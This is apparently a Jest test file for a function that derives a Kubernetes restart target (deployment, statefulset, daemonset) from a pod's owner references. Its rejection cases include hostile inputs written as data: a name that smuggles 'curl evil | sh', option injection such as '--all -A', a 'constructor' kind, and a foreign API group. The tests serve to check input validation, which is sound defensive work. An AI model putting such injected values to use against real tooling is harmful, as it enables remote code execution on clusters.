import { expect, test } from "@jest/globals";
import { restartTarget } from "./restart-target.ts";
import type { OwnedMetadata } from "./workload-of-pod.ts";

type Owner = NonNullable<OwnedMetadata["ownerReferences"]>[number];

const SET: Owner = { apiVersion: "apps/v1", kind: "StatefulSet", name: "web", controller: true };

const targetOf = (ownerReferences?: Owner[], labels?: Record<string, string>) =>
  restartTarget({
    name: "web-6d5f7c9b8d-x2x4z",
    ...(labels && { labels }),
    ...(ownerReferences && { ownerReferences }),
  });

const HASH = { app: "web", "pod-template-hash": "6d5f7c9b8d" };

test.each([
  ["ReplicaSet", "web-6d5f7c9b8d", "deployment/web"],
  ["StatefulSet", "db", "statefulset/db"],
  ["DaemonSet", "agent", "daemonset/agent"],
  ["Job", "once", undefined],
])("of a pod of a %s", (kind, name, target) => {
  expect(targetOf([{ ...SET, kind, name }], HASH)).toBe(target);
});

test.each([
  ["a command", { name: "x; curl evil | sh #" }],
  ["a command before the hash", { kind: "ReplicaSet", name: "x --all -A #-6d5f7c9b8d" }],
  ["an option", { name: "--all" }],
  ["a name that is too long", { name: "a".repeat(254) }],
  ["a kind by the name of what every object has", { kind: "constructor" }],
  ["a kind of another API", { apiVersion: "evil.example/v1" }],
  ["a ReplicaSet without the pod's hash", { kind: "ReplicaSet", name: "a-long-name-of-its-own" }],
  ["nothing before the hash", { kind: "ReplicaSet", name: "-6d5f7c9b8d" }],
])("an owner that is %s is none", (_what, owner) => {
  expect(targetOf([{ ...SET, ...owner }], HASH)).toBeUndefined();
});

test("of several owners the controller counts", () => {
  expect(targetOf([{ ...SET, name: "other", controller: false }, SET])).toBe("statefulset/web");
});

test("a ReplicaSet of a pod without labels is none", () => {
  expect(targetOf([{ ...SET, kind: "ReplicaSet", name: "web-6d5f7c9b8d" }])).toBeUndefined();
});

test("a bare pod has none", () => {
  expect(targetOf()).toBeUndefined();
});
